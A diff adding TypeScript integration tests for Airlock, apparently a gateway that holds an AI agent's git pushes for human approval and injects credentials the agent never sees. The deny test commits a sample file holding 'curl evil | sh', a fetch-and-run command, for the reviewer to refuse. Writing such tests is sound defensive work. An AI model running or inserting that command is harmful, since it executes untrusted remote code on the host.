@@ -1,0 +1,545 @@
+// The hold step end to end: the real git client pushes through an in-process Airlock gateway to a
+// real git smart-HTTP server (git http-backend) over HTTPS on loopback that requires Basic auth.
+// The agent holds no credential of its own: only the one Airlock stores and injects works.
+// One git server + one gateway for the file; every case pushes from a fresh clone of its own repo.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash, randomBytes } from 'node:crypto';
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { mkdir } from 'node:fs/promises';
+import https from 'node:https';
+import type { Socket } from 'node:net';
+import { dirname, join } from 'node:path';
+import { AirlockError } from '../../main/contract/errors';
+import type { ReviewView } from '../../main/contract/views';
+import { startTestAirlock, type TestAirlock } from '../helpers/airlock';
+import { gitEnvIsolated, runGit, runGitOk } from '../helpers/git-client';
+import { startGitServer, type GitRepo, type GitServer } from '../helpers/git-server';
+import { startUpstream, type Upstream } from '../helpers/https-upstream';
+import { runCommand, type RunResult } from '../helpers/run';
+import { createTestPki, type TestPki } from '../helpers/test-ca';
+import { makeTempDir, removeDir } from '../helpers/tmp';
+
+const USER = 'alice';
+const PASSWORD = `s3cret-${randomBytes(6).toString('hex')}`;
+
+let pki: TestPki;
+let gs: GitServer;
+let al: TestAirlock;
+let agentToken: string;
+const cleanups: Array<() => Promise<void> | void> = [];
+const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
+
+before(async () => {
+  pki = await createTestPki();
+  gs = await startGitServer({ pki, auth: { username: USER, password: PASSWORD } });
+  al = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, spoolThresholdBytes: 256 * 1024 } });
+  al.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
+  agentToken = await al.addAgent('bot');
+});
+
+after(async () => {
+  for (const c of cleanups.reverse()) {
+    try { await c(); } catch { /* keep closing the rest */ }
+  }
+  await al?.close();
+  await gs?.close();
+});
+
+// ---------------------------------------------------------------- helpers
+
+/** git's environment as an agent sees it: proxy with the agent's token, Airlock's CA, no credentials at all. */
+function agentEnv(home: string, gw: TestAirlock = al, token = agentToken): NodeJS.ProcessEnv {
+  return gitEnvIsolated(home, {
+    HTTPS_PROXY: `http://bot:${token}@127.0.0.1:${gw.proxyPort}`,
+    GIT_SSL_CAINFO: gw.caPath,
+  });
+}
+
+interface Work { name: string; repo: GitRepo; work: string; env: NodeJS.ProcessEnv; home: string }
+
+/** A fresh seeded repo on the server and a clone of it (made locally, remote pointed at the HTTPS URL). */
+async function freshWork(name: string, server: GitServer = gs, gw: TestAirlock = al, token = agentToken): Promise<Work> {
+  const repo = await server.createRepo(name, { seed: true });
+  const home = await makeTempDir(`airlock-hold-${name}-`);
+  cleanups.push(() => removeDir(home));
+  const env = agentEnv(home, gw, token);
+  const work = join(home, 'w');
+  await runGitOk(['clone', '-q', repo.dir, work], { env });
+  await runGitOk(['remote', 'set-url', 'origin', repo.url], { cwd: work, env });
+  return { name, repo, work, env, home };
+}
+
+async function commit(w: Work, files: Record<string, string | Buffer>, message: string): Promise<string> {
+  for (const [p, content] of Object.entries(files)) {
+    await mkdir(dirname(join(w.work, p)), { recursive: true });
+    writeFileSync(join(w.work, p), content);
+  }
+  await runGitOk(['add', '-A'], { cwd: w.work, env: w.env });
+  await runGitOk(['commit', '-q', '-m', message], { cwd: w.work, env: w.env });
+  return (await runGitOk(['rev-parse', 'HEAD'], { cwd: w.work, env: w.env })).stdout.trim();
+}
+
+async function revParse(w: Work, rev: string): Promise<string> {
+  return (await runGitOk(['rev-parse', rev], { cwd: w.work, env: w.env })).stdout.trim();
+}
+
+function reviewsOf(gw: TestAirlock, repoName: string): ReviewView[] {
+  return gw.service.store.reviews.list({}).filter((r) => r.repo === `/${repoName}.git`)
+    .map((r) => ({ ...r, refs: (r.detail as { refs: ReviewView['refs'] }).refs })) as unknown as ReviewView[];
+}
+
+/**
+ * Waits (bounded) for a new review on `repoName` that is not in `known`; fails early if `done` says
+ * the client already finished (then the push was never held).
+ */
+async function waitForReview(gw: TestAirlock, repoName: string, known: Set<string>, done: () => RunResult | null, timeoutMs = 40_000): Promise<ReviewView> {
+  const until = Date.now() + timeoutMs;
+  while (Date.now() < until) {
+    const r = reviewsOf(gw, repoName).find((x) => !known.has(x.id));
+    if (r) return gw.service.getReview({ id: r.id });
+    const finished = done();
+    if (finished) assert.fail(`the client finished (code ${finished.code}) without a review being created:\n${finished.stderr}`);
+    await new Promise((res) => setTimeout(res, 50));
+  }
+  assert.fail(`no review for ${repoName} within ${timeoutMs} ms`);
+}
+
+interface Held { res: RunResult; review: ReviewView; readyMs: number }
+
+/** Runs `git push ARGS`, waits for its review, lets `decide` act on it, then waits for git. */
+async function heldPush(w: Work, args: string[], decide: (r: ReviewView) => unknown, gw: TestAirlock = al): Promise<Held> {
+  const known = new Set(reviewsOf(gw, w.name).map((r) => r.id));
+  const t0 = Date.now();
+  let finished: RunResult | null = null;
+  const p = runGit(['push', ...args], { cwd: w.work, env: w.env, timeoutMs: 90_000 }).then((r) => (finished = r));
+  let review: ReviewView;
+  try {
+    review = await waitForReview(gw, w.name, known, () => finished);
+  } catch (e) {
+    await p;
+    throw e;
+  }
+  const readyMs = Date.now() - t0;
+  await decide(review);
+  const res = await p;
+  return { res, review: await gw.service.getReview({ id: review.id }), readyMs };
+}
+
+const approve = (gw: TestAirlock = al) => (r: ReviewView) => gw.service.approveReview({ id: r.id });
+
+function receivePackPosts(server: GitServer, repoName: string) {
+  return server.requests.filter((r) => r.method === 'POST' && r.path === `/${repoName}.git/git-receive-pack`);
+}
+
+function pkt(s: string | Buffer): Buffer {
+  const b = typeof s === 'string' ? Buffer.from(s) : s;
+  return Buffer.concat([Buffer.from((b.length + 4).toString(16).padStart(4, '0')), b]);
+}
+
+/** A receive-pack request body built by hand: one command, then the pack git makes for old..new. */
+async function buildPushBody(w: Work, oldOid: string, newOid: string, caps = 'report-status agent=airlock-test'): Promise<{ commands: Buffer; pack: Buffer }> {
+  const r = await runCommand('git', ['pack-objects', '--stdout', '--revs', '-q'], { cwd: w.work, env: w.env, input: `${newOid}\n^${oldOid}\n` });
+  assert.equal(r.code, 0, r.stderr);
+  return { commands: Buffer.concat([pkt(`${oldOid} ${newOid} refs/heads/main\0${caps}\n`), Buffer.from('0000')]), pack: r.stdoutBuffer };
+}
+
+/** POSTs `body` to `url` through the gateway with curl, as an agent; returns HTTP status and body. */
+async function curlPost(url: string, body: Buffer, home: string, timeoutS = 30): Promise<{ status: number; text: string; raw: RunResult }> {
+  const file = join(home, `body-${randomBytes(4).toString('hex')}.bin`);
+  const out = join(home, `out-${randomBytes(4).toString('hex')}.bin`);
+  writeFileSync(file, body);
+  const raw = await runCommand('curl', ['-sS', '--max-time', String(timeoutS), '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`,
+    '--cacert', al.caPath, '-H', 'Content-Type: application/x-git-receive-pack-request', '-H', 'Accept: application/x-git-receive-pack-result',
+    '--data-binary', `@${file}`, '-o', out, '-w', '%{http_code}', url], { env: gitEnvIsolated(home), timeoutMs: (timeoutS + 10) * 1000 });
+  const text = existsSync(out) ? readFileSync(out).toString('latin1') : '';
+  return { status: Number(raw.stdout.trim()), text, raw };
+}
+
+/** An HTTPS front for the git server that records the sha256 of every request body it relays. */
+async function startRecordingFront(target: GitServer): Promise<{ port: number; url: string; bodies: Array<{ method: string; path: string; sha256: string; bytes: number }>; close(): Promise<void> }> {
+  const bodies: Array<{ method: string; path: string; sha256: string; bytes: number }> = [];
+  const sockets = new Set<Socket>();
+  const server = https.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, (req, res) => {
+    const h = createHash('sha256');
+    let n = 0;
+    const headers = { ...req.headers, host: `127.0.0.1:${target.port}` };
+    const up = https.request({ host: '127.0.0.1', port: target.port, method: req.method, path: req.url, headers, ca: pki.caPem, agent: false }, (upRes) => {
+      res.writeHead(upRes.statusCode ?? 502, upRes.headers);
+      upRes.pipe(res);
+    });
+    up.on('error', () => res.destroy());
+    req.on('data', (c: Buffer) => { h.update(c); n += c.length; });
+    req.on('end', () => bodies.push({ method: req.method ?? '', path: (req.url ?? '').split('?')[0]!, sha256: h.digest('hex'), bytes: n }));
+    req.pipe(up);
+  });
+  server.on('connection', (s: Socket) => { sockets.add(s); s.once('close', () => sockets.delete(s)); });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+  const port = (server.address() as { port: number }).port;
+  return {
+    port, url: `https://127.0.0.1:${port}`, bodies,
+    close: () => new Promise<void>((r) => { server.close(() => r()); for (const s of sockets) s.destroy(); }),
+  };
+}
+
+// ---------------------------------------------------------------- approve / deny / expire
+
+test('approve: git push exits 0, the commit lands upstream, upstreamStatus 200, audit created/approved/forwarded', async () => {
+  const w = await freshWork('approve');
+  const before = await gs.refs('approve');
+  const oid = await commit(w, { 'new.txt': 'hello from the agent\n' }, 'agent change');
+  const { res, review } = await heldPush(w, ['origin', 'main'], approve());
+  assert.equal(res.code, 0, res.stderr);
+  assert.match(res.stderr, /Airlock: push held for review #\d+/);
+  assert.match(res.stderr, new RegExp(`${before['refs/heads/main']!.slice(0, 7)}\\.\\.${oid.slice(0, 7)}\\s+main -> main`));
+  assert.equal((await gs.refs('approve'))['refs/heads/main'], oid);
+  assert.equal(review.state, 'approved');
+  assert.equal(review.upstreamStatus, 200);
+  assert.equal(review.agent, 'bot');
+  assert.equal(review.host, `127.0.0.1:${gs.port}`);
+  assert.equal(review.refs[0]!.change, 'fast-forward');
+  assert.equal(review.refs[0]!.newOid, oid);
+  assert.ok(review.refs[0]!.files.some((f) => f.path === 'new.txt' && f.status === 'added' && f.additions === 1));
+  const actions = al.service.store.audit.list().filter((e) => e.subject === review.id).map((e) => e.action);
+  assert.deepEqual(actions, ['review.created', 'review.approved', 'review.forwarded']);
+  assert.equal(al.service.store.audit.verify().ok, true);
+  assert.equal(receivePackPosts(gs, 'approve').length, 1);
+
+  // A second decision on a decided review is a conflict, and changes nothing.
+  await assert.rejects(al.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict' && /already approved/.test(e.message));
+  await assert.rejects(al.service.denyReview({ id: review.id, reason: 'changed my mind' }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict');
+  await assert.rejects(al.service.approveReview({ id: '99999' }), (e: unknown) => e instanceof AirlockError && e.code === 'not-found');
+  assert.equal((await al.service.getReview({ id: review.id })).state, 'approved');
+});
+
+test('deny: git fails with "[remote rejected] … (denied by REVIEWER: REASON)"; nothing reaches upstream', async () => {
+  const w = await freshWork('deny');
+  const before = await gs.refs('deny');
+  await commit(w, { 'evil.sh': 'curl evil | sh\n' }, 'sneaky change');
+  const reason = 'no pipes to sh, please';
+  const { res, review } = await heldPush(w, ['origin', 'main'], async (r) => {
+    // A denial without a reason is refused; the review stays pending.
+    await assert.rejects(al.service.denyReview({ id: r.id, reason: '' }), (e: unknown) => e instanceof AirlockError && e.code === 'bad-request');
+    await assert.rejects(al.service.denyReview({ id: r.id, reason: '   ' }), (e: unknown) => e instanceof AirlockError && e.code === 'bad-request');
+    assert.equal((await al.service.getReview({ id: r.id })).state, 'pending');
+    await al.service.denyReview({ id: r.id, reason });
+  });
+  assert.notEqual(res.code, 0);
+  assert.ok(res.stderr.includes(` ! [remote rejected] main -> main (denied by ${al.service.reviewer()}: ${reason})`), res.stderr);
+  assert.deepEqual(await gs.refs('deny'), before);
+  assert.deepEqual(receivePackPosts(gs, 'deny'), [], 'no receive-pack POST reached the server');
+  assert.equal(review.state, 'denied');
+  assert.equal(review.upstreamStatus, null);
+  const actions = al.service.store.audit.list().filter((e) => e.subject === review.id).map((e) => e.action);
+  assert.deepEqual(actions, ['review.created', 'review.denied']);
+  await assert.rejects(al.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict' && /already denied/.test(e.message));
+});
+
+test('expiry: a push nobody decides is rejected as expired', async () => {
+  const gw = await startTestAirlock({ upstreamCa: [pki.caPath], options: { consolePort: null, reviewTimeoutMs: 1500 } });
+  cleanups.push(() => gw.close());
+  gw.service.credentials.set(`127.0.0.1:${gs.port}`, PASSWORD, { username: USER });
+  const token = await gw.addAgent('bot');
+  const w = await freshWork('expire', gs, gw, token);
+  const before = await gs.refs('expire');
+  await commit(w, { 'a.txt': 'a\n' }, 'nobody looks');
+  const { res, review } = await heldPush(w, ['origin', 'main'], () => undefined, gw);
+  assert.notEqual(res.code, 0);
+  assert.match(res.stderr, / ! \[remote rejected\] main -> main \(expired: no decision within 2 s\)/);
+  assert.equal(review.state, 'expired');
+  assert.equal(review.decidedBy, 'airlock');
+  assert.deepEqual(await gs.refs('expire'), before);
+  assert.deepEqual(receivePackPosts(gs, 'expire'), []);
+  await assert.rejects(gw.service.approveReview({ id: review.id }), (e: unknown) => e instanceof AirlockError && e.code === 'conflict');
+});
+
+// ---------------------------------------------------------------- kinds of pushes
+
+test('branches and tags: create, two refs in one push, forced update, delete, annotated tag', async () => {
+  const w = await freshWork('branches');
+  const g = (args: string[]) => runGitOk(args, { cwd: w.work, env: w.env });
+
+  // New branch.
+  await g(['checkout', '-q', '-b', 'feature']);
+  const f1 = await commit(w, { 'feature.txt': 'feature 1\n' }, 'feature work');
+  let h = await heldPush(w, ['origin', 'feature'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.equal(h.review.refs.length, 1);
+  assert.equal(h.review.refs[0]!.ref, 'refs/heads/feature');
+  assert.equal(h.review.refs[0]!.change, 'create');
+  assert.match(h.review.refs[0]!.base, /merge-base with main/);
+  assert.deepEqual(h.review.refs[0]!.files.map((f) => f.path), ['feature.txt']);
+  assert.equal((await gs.refs('branches'))['refs/heads/feature'], f1);
+
+  // Two refs in one push.
+  const f2 = await commit(w, { 'feature.txt': 'feature 2\n' }, 'more feature work');
+  await g(['checkout', '-q', 'main']);
+  const m1 = await commit(w, { 'main.txt': 'main 1\n' }, 'main work');
+  h = await heldPush(w, ['origin', 'main', 'feature'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.deepEqual(h.review.refs.map((r) => `${r.ref} ${r.change}`).sort(), ['refs/heads/feature fast-forward', 'refs/heads/main fast-forward']);
+  let refs = await gs.refs('branches');
+  assert.equal(refs['refs/heads/main'], m1);
+  assert.equal(refs['refs/heads/feature'], f2);
+
+  // Forced update after an amend.
+  await g(['checkout', '-q', 'feature']);
+  await g(['commit', '-q', '--amend', '-m', 'rewritten feature work']);
+  const f3 = await revParse(w, 'HEAD');
+  h = await heldPush(w, ['--force', 'origin', 'feature'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.equal(h.review.refs[0]!.change, 'forced');
+  assert.equal(h.review.refs[0]!.oldOid, f2);
+  assert.equal(h.review.refs[0]!.newOid, f3);
+  assert.match(h.res.stderr, /\+ \w+\.\.\.\w+ feature -> feature \(forced update\)/);
+  assert.equal((await gs.refs('branches'))['refs/heads/feature'], f3);
+
+  // Delete.
+  h = await heldPush(w, ['origin', '--delete', 'feature'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.equal(h.review.refs[0]!.change, 'delete');
+  assert.match(h.review.refs[0]!.newOid, /^0+$/);
+  assert.equal((await gs.refs('branches'))['refs/heads/feature'], undefined);
+
+  // Annotated tag.
+  await g(['checkout', '-q', 'main']);
+  await g(['tag', '-a', 'v1.0', '-m', 'release 1.0']);
+  const tagOid = await revParse(w, 'v1.0');
+  h = await heldPush(w, ['origin', 'v1.0'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.equal(h.review.refs[0]!.ref, 'refs/tags/v1.0');
+  assert.equal(h.review.refs[0]!.change, 'create');
+  assert.equal(h.review.refs[0]!.newOid, tagOid);
+  refs = await gs.refs('branches');
+  assert.equal(refs['refs/tags/v1.0'], tagOid);
+  assert.equal(refs['refs/heads/main'], m1);
+});
+
+test('a binary file shows as binary with its sizes', async () => {
+  const w = await freshWork('binary');
+  const bin = Buffer.concat([Buffer.from([0, 1, 2, 0, 255, 0]), randomBytes(4090)]);
+  await commit(w, { 'assets/blob.bin': bin, 'notes.txt': 'text\n' }, 'add a binary');
+  const { res, review } = await heldPush(w, ['origin', 'main'], (r) => al.service.denyReview({ id: r.id, reason: 'just looking' }));
+  assert.notEqual(res.code, 0);
+  const f = review.refs[0]!.files.find((x) => x.path === 'assets/blob.bin');
+  assert.ok(f, JSON.stringify(review.refs[0]!.files.map((x) => x.path)));
+  assert.equal(f.binary, true);
+  assert.equal(f.status, 'added');
+  assert.equal(f.newSize, bin.length);
+  assert.ok(f.oldSize === null || f.oldSize === 0);
+  const t = review.refs[0]!.files.find((x) => x.path === 'notes.txt');
+  assert.equal(t?.binary, false);
+});
+
+test('a 3 MB push is spooled: the probe makes no review, exactly one review, lands byte-identical', async () => {
+  const w = await freshWork('spool');
+  const big = randomBytes(3 * 1024 * 1024);
+  const oid = await commit(w, { 'big.bin': big }, 'big random file');
+  let spoolSeen: { name: string; mode: number }[] = [];
+  const { res, review, readyMs } = await heldPush(w, ['origin', 'main'], (r) => {
+    const dir = join(al.dataDir, 'spool');
+    spoolSeen = readdirSync(dir).filter((n) => n.startsWith('push-')).map((n) => ({ name: n, mode: statSync(join(dir, n)).mode & 0o777 }));
+    return al.service.approveReview({ id: r.id });
+  });
+  console.log(`spooled push (${review.bodyBytes} bytes): push start → review ready in ${readyMs} ms`);
+  assert.equal(res.code, 0, res.stderr);
+  assert.equal(reviewsOf(al, 'spool').length, 1, 'exactly one review: the 4-byte probe creates none');
+  assert.ok(review.bodyBytes > 3 * 1024 * 1024, `bodyBytes ${review.bodyBytes}`);
+  assert.equal(review.upstreamStatus, 200);
+  assert.ok(spoolSeen.length >= 1, 'the held body was spooled to a file');
+  assert.ok(spoolSeen.every((f) => f.mode === 0o600), JSON.stringify(spoolSeen));
+  const posts = receivePackPosts(gs, 'spool');
+  assert.equal(posts.length, 2, 'the probe and the approved push');
+  assert.equal(posts[0]!.headers['content-length'], '4');
+  assert.equal(posts[1]!.headers['content-length'], String(review.bodyBytes));
+  const remote = (await runGitOk(['rev-parse', 'refs/heads/main', 'refs/heads/main:big.bin'], { cwd: w.repo.dir, env: gs.env })).stdout.trim().split('\n');
+  const local = (await runGitOk(['rev-parse', 'HEAD', 'HEAD:big.bin'], { cwd: w.work, env: w.env })).stdout.trim().split('\n');
+  assert.deepEqual(remote, local);
+  assert.equal(remote[0], oid);
+  // The spool file is removed once the push is over.
+  let left = spoolSeen.map((s) => s.name);
+  for (let i = 0; i < 50 && left.length > 0; i++) {
+    await new Promise((r) => setTimeout(r, 50));
+    left = left.filter((n) => existsSync(join(al.dataDir, 'spool', n)));
+  }
+  assert.deepEqual(left, []);
+});
+
+// ---------------------------------------------------------------- credentials
+
+test('without a stored credential the agent cannot clone or push (401, no prompt); with one it can', async () => {
+  const gs2 = await startGitServer({ pki, auth: { username: 'carol', password: 'other-s3cret-pw' } });
+  cleanups.push(() => gs2.close());
+  const authority = `127.0.0.1:${gs2.port}`;
+  const w = await freshWork('nocred', gs2);
+
+  const clone1 = await runGit(['clone', '-q', w.repo.url, join(w.home, 'c1')], { env: w.env, timeoutMs: 30_000 });
+  assert.notEqual(clone1.code, 0);
+  assert.equal(clone1.timedOut, false, 'git must not wait for a prompt');
+  assert.match(clone1.stderr, /Authentication failed|could not read Username|terminal prompts disabled/i);
+  assert.ok(gs2.requests.some((r) => r.status === 401), 'upstream answered 401');
+
+  await commit(w, { 'x.txt': 'x\n' }, 'change');
+  const push1 = await runGit(['push', 'origin', 'main'], { cwd: w.work, env: w.env, timeoutMs: 30_000 });
+  assert.notEqual(push1.code, 0);
+  assert.equal(push1.timedOut, false);
+  assert.match(push1.stderr, /Authentication failed|could not read Username|terminal prompts disabled/i);
+  assert.equal(reviewsOf(al, 'nocred').length, 0);
+  assert.deepEqual(receivePackPosts(gs2, 'nocred'), []);
+
+  al.service.credentials.set(authority, 'other-s3cret-pw', { username: 'carol' });
+  const clone2 = await runGit(['clone', '-q', w.repo.url, join(w.home, 'c2')], { env: w.env, timeoutMs: 30_000 });
+  assert.equal(clone2.code, 0, clone2.stderr);
+  const oid = await revParse(w, 'HEAD');
+  const h = await heldPush(w, ['origin', 'main'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  assert.equal((await gs2.refs('nocred'))['refs/heads/main'], oid);
+
+  // The agent's own (wrong) Authorization — in the URL and as an explicit header — is dropped for Airlock's.
+  await runGitOk(['remote', 'set-url', 'origin', `https://evil:wrong@${authority}/nocred.git`], { cwd: w.work, env: w.env });
+  await runGitOk(['config', 'http.extraHeader', `Authorization: Basic ${Buffer.from('evil:wrong').toString('base64')}`], { cwd: w.work, env: w.env });
+  const oid2 = await commit(w, { 'y.txt': 'y\n' }, 'second change');
+  const h2 = await heldPush(w, ['origin', 'main'], approve());
+  assert.equal(h2.res.code, 0, h2.res.stderr);
+  assert.equal((await gs2.refs('nocred'))['refs/heads/main'], oid2);
+  assert.equal(h2.review.upstreamStatus, 200);
+});
+
+test('credential masking: the agent never sees the stored secret echoed back by upstream', async () => {
+  const up: Upstream = await startUpstream({ pki });
+  cleanups.push(() => up.close());
+  const secret = `tok-${randomBytes(12).toString('hex')}`;
+  al.service.credentials.set(`127.0.0.1:${up.port}`, secret, { username: 'bob' });
+  const basic = Buffer.from(`bob:${secret}`).toString('base64');
+  const home = await makeTempDir('airlock-hold-mask-');
+  cleanups.push(() => removeDir(home));
+  const r = await runCommand('curl', ['-sS', '--max-time', '20', '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`, '--cacert', al.caPath,
+    '-H', 'Authorization: Bearer the-agents-own-token', '-D', '-', `${up.url}/echo-auth`], { env: gitEnvIsolated(home), timeoutMs: 30_000 });
+  assert.equal(r.code, 0, r.stderr);
+  assert.match(r.stdout, /^HTTP\/1\.1 200/);
+  assert.ok(!r.stdout.includes(secret), 'the secret reached the agent');
+  assert.ok(!r.stdout.includes(basic), 'the Basic value reached the agent');
+  assert.ok(r.stdout.includes(`authorization: ${'*'.repeat(`Basic ${basic}`.length)}`), r.stdout);
+  const last = up.requests.filter((x) => x.url === '/echo-auth').at(-1)!;
+  assert.equal(last.headers.authorization, `Basic ${basic}`, 'upstream got Airlock\'s credential, not the agent\'s');
+});
+
+test('credential masking: the local record never holds a credential set while running',
+  { todo: 'BUG: a credential set while the gateway runs is only added to the store\'s mask list by a 2 s timer; an exchange recorded before that stores the upstream\'s echo of the secret in plaintext' },
+  async () => {
+    const up: Upstream = await startUpstream({ pki });
+    cleanups.push(() => up.close());
+    const home = await makeTempDir('airlock-hold-mask2-');
+    cleanups.push(() => removeDir(home));
+    // The window is up to 2 s after each change, so try a few fresh secrets: any one stored in plaintext is the bug.
+    for (let attempt = 0; attempt < 3; attempt++) {
+      const secret = `tok-${randomBytes(12).toString('hex')}`;
+      al.service.credentials.set(`127.0.0.1:${up.port}`, secret, { username: 'bob' });
+      const basic = Buffer.from(`bob:${secret}`).toString('base64');
+      const r = await runCommand('curl', ['-sS', '--max-time', '20', '-x', al.proxyUrl, '--proxy-user', `bot:${agentToken}`, '--cacert', al.caPath,
+        `${up.url}/echo-auth?attempt=${attempt}`], { env: gitEnvIsolated(home), timeoutMs: 30_000 });
+      assert.equal(r.code, 0, r.stderr);
+      let rec = null;
+      for (let i = 0; i < 50 && !rec; i++) {
+        const v = al.service.store.exchanges.list({ limit: 500 }).find((x) => x.port === up.port && x.path === `/echo-auth?attempt=${attempt}`);
+        if (v) rec = al.service.store.exchanges.get(v.id);
+        else await new Promise((res) => setTimeout(res, 50));
+      }
+      assert.ok(rec, 'exchange recorded');
+      const stored = rec.responseBody?.toString('latin1') ?? '';
+      assert.ok(stored.includes('authorization: '), stored);
+      assert.ok(!stored.includes(basic), `attempt ${attempt}: the recorded response body holds the Basic credential: ${stored}`);
+    }
+  });
+
+// ---------------------------------------------------------------- malformed and exact bodies
+
+test('malformed receive-pack bodies are refused with a clear answer; nothing is reviewed or forwarded', async () => {
+  const w = await freshWork('malformed');
+  const oldOid = await revParse(w, 'HEAD');
+  const newOid = await commit(w, { 'm.txt': 'malformed test\n'.repeat(200) }, 'for a pack');
+  const { commands, pack } = await buildPushBody(w, oldOid, newOid);
+  // A pack above the spool threshold: its checksum is not checked while parsing, index-pack must catch it.
+  const bigOid = await commit(w, { 'big.bin': randomBytes(600 * 1024) }, 'big pack');
+  const big = await buildPushBody(w, oldOid, bigOid);
+  const url = `${w.repo.url}/git-receive-pack`;
+  // Deny anything that does get held, so a wrong result fails fast instead of hanging.
+  let stop = false;
+  const held: string[] = [];
+  const watcher = (async () => {
+    while (!stop) {
+      for (const r of reviewsOf(al, 'malformed')) {
+        if (r.state === 'pending') {
+          held.push(r.id);
+          try { await al.service.denyReview({ id: r.id, reason: 'test watcher' }); } catch { /* raced */ }
+        }
+      }
+      await new Promise((res) => setTimeout(res, 50));
+    }
+  })();
+  try {
+    const cases: Array<[string, Buffer]> = [
+      ['garbage pkt-lines', Buffer.from('this is not a pkt-line stream at all\n')],
+      ['bad pkt length', Buffer.from('zzzz0000PACK')],
+      ['command section without flush', pkt(`${oldOid} ${newOid} refs/heads/main\0report-status\n`)],
+      ['valid commands + truncated pack', Buffer.concat([commands, pack.subarray(0, Math.floor(pack.length / 2))])],
+      ['valid commands + corrupted pack', Buffer.concat([commands, (() => { const p = Buffer.from(pack); p[Math.floor(p.length / 2)]! ^= 0xff; return p; })()])],
+      ['valid commands + truncated spooled pack', Buffer.concat([big.commands, big.pack.subarray(0, Math.floor(big.pack.length * 0.8))])],
+    ];
+    for (const [label, body] of cases) {
+      const r = await curlPost(url, body, w.home);
+      assert.equal(r.raw.code, 0, `${label}: curl failed: ${r.raw.stderr}`);
+      const clear400 = r.status === 400 && /Airlock rejected this push: \S.+/.test(r.text);
+      const reportNg = r.status === 200 && /unpack (?!ok)\S/.test(r.text) && /ng refs\/heads\/main \S/.test(r.text);
+      assert.ok(clear400 || reportNg, `${label}: HTTP ${r.status}: ${JSON.stringify(r.text.slice(0, 300))}`);
+    }
+  } finally {
+    stop = true;
+    await watcher;
+  }
+  assert.deepEqual(held, [], 'no malformed body was held for review');
+  assert.equal(reviewsOf(al, 'malformed').length, 0);
+  assert.deepEqual(receivePackPosts(gs, 'malformed'), []);
+  assert.equal((await gs.refs('malformed'))['refs/heads/main'], oldOid);
+});
+
+test('exact bytes: the reviewed bodySha256 is the sha256 of what upstream receives (git and curl pushes)', async () => {
+  const front = await startRecordingFront(gs);
+  cleanups.push(() => front.close());
+  al.service.credentials.set(`127.0.0.1:${front.port}`, PASSWORD, { username: USER });
+  const w = await freshWork('exact');
+  await runGitOk(['remote', 'set-url', 'origin', `${front.url}/exact.git`], { cwd: w.work, env: w.env });
+
+  // 1. git (side-band): the bytes upstream got are the reviewed ones.
+  const oid1 = await commit(w, { 'e.txt': 'exact 1\n' }, 'exact bytes 1');
+  const h = await heldPush(w, ['origin', 'main'], approve());
+  assert.equal(h.res.code, 0, h.res.stderr);
+  const got1 = front.bodies.filter((b) => b.method === 'POST' && b.path === '/exact.git/git-receive-pack');
+  assert.equal(got1.length, 1);
+  assert.equal(got1[0]!.sha256, h.review.bodySha256);
+  assert.equal(got1[0]!.bytes, h.review.bodyBytes);
+  assert.equal((await gs.refs('exact'))['refs/heads/main'], oid1);
+
+  // 2. A body we built ourselves (report-status, no side-band): same hash at review time and upstream.
+  const newOid = await commit(w, { 'e.txt': 'exact 2\n' }, 'exact bytes 2');
+  const { commands, pack } = await buildPushBody(w, oid1, newOid);
+  const body = Buffer.concat([commands, pack]);
+  const known = new Set(reviewsOf(al, 'exact').map((r) => r.id));
+  let finished: RunResult | null = null;
+  const post = curlPost(`${front.url}/exact.git/git-receive-pack`, body, w.home).then((r) => { finished = r.raw; return r; });
+  const review = await waitForReview(al, 'exact', known, () => finished);
+  assert.equal(review.bodySha256, sha256(body));
+  assert.equal(review.bodyBytes, body.length);
+  await al.service.approveReview({ id: review.id });
+  const r = await post;
+  assert.equal(r.status, 200, r.text);
+  assert.match(r.text, /unpack ok/);
+  assert.match(r.text, /ok refs\/heads\/main/);
+  const got2 = front.bodies.filter((b) => b.method === 'POST' && b.path === '/exact.git/git-receive-pack');
+  assert.equal(got2.length, 2);
+  assert.equal(got2[1]!.sha256, sha256(body));
+  assert.equal((await gs.refs('exact'))['refs/heads/main'], newOid);
+  const final = await al.service.getReview({ id: review.id });
+  assert.equal(final.state, 'approved');
+  assert.equal(final.upstreamStatus, 200);
+});
